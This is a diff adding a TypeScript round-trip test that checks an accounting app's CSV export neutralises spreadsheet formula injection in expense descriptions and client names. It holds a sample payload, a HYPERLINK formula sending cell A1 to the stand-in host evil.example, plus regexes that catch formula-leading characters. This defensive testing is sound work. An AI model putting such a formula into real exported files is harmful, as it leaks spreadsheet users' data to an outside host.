@@ -3,8 +3,11 @@ import { importCsv } from '../../src-engine/data/csv-import.js';
 import { generateDemo } from '../../src-engine/data/demo.js';
 import { compareRollups } from '../../src-engine/store/rollups.js';
 import { Store } from '../../src-engine/store/store.js';
+import { updateClient } from '../../src-engine/store/writes/clients.js';
+import { createExpense } from '../../src-engine/store/writes/expenses.js';
 import { tempDir } from '../helpers/tmp.js';
 import { addCompany, csvStream, exportText } from './helpers.js';
+import { HOSTILE } from './hostile.js';
 
 let tmp: ReturnType<typeof tempDir>;
 let store: Store;
@@ -33,6 +36,34 @@ describe('export → import into a fresh company → export', () => {
       expect(compareRollups(store.db)).toEqual([]);
     });
   }
+});
+
+describe('hostile text survives the round trip exactly and leaves every file guarded', () => {
+  it('formula-like descriptions and client names: export guards them, import restores the stored values', async () => {
+    // Through the write API: these strings are valid text, so they can be stored as they are.
+    HOSTILE.forEach((description, i) => createExpense(store, 1, { date: '2026-03-01', category: 'travel', description, amount: 1500 + i }));
+    createExpense(store, 1, { date: '2026-03-02', category: 'travel', description: 'tab\tinside', amount: 1 });
+    const clientIds = store.db.prepare('SELECT id FROM clients WHERE company_id = 1 ORDER BY id LIMIT ?').pluck().all(HOSTILE.length) as number[];
+    clientIds.forEach((id, i) => updateClient(store, 1, id, { name: `${HOSTILE[i]!} ${i}` }));
+    for (const kind of ['expenses', 'invoices'] as const) {
+      const first = exportText(store.db, 1, kind);
+      expect(first).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`);
+      expect(first).toContain(`"'-2+3`);
+      for (const line of first.split('\n')) {
+        // No cell starts with a formula character: each one is after a line start or a comma, optionally in quotes.
+        expect(line).not.toMatch(/(^|,)"?[=+@\t\uFF1D]/);
+        expect(line).not.toMatch(/(^|,)"?-(?!\d+(\.\d+)?(,|$))/);
+      }
+      const fresh = addCompany(store.db, `Hostile copy ${kind}`);
+      const r = await importCsv(store, fresh, kind, csvStream(first));
+      expect(r.errors).toEqual([]);
+      expect(exportText(store.db, fresh, kind)).toBe(first);
+      expect(exportText(store.db, fresh, kind, 'json')).toBe(exportText(store.db, 1, kind, 'json'));
+    }
+    const stored = store.db.prepare("SELECT description FROM expenses WHERE company_id > 3 AND date = '2026-03-01' AND amount BETWEEN 1500 AND ? ORDER BY amount").pluck().all(1500 + HOSTILE.length - 1);
+    expect(stored).toEqual(HOSTILE);
+    expect(compareRollups(store.db)).toEqual([]);
+  });
 });
 
 describe('export formats', () => {
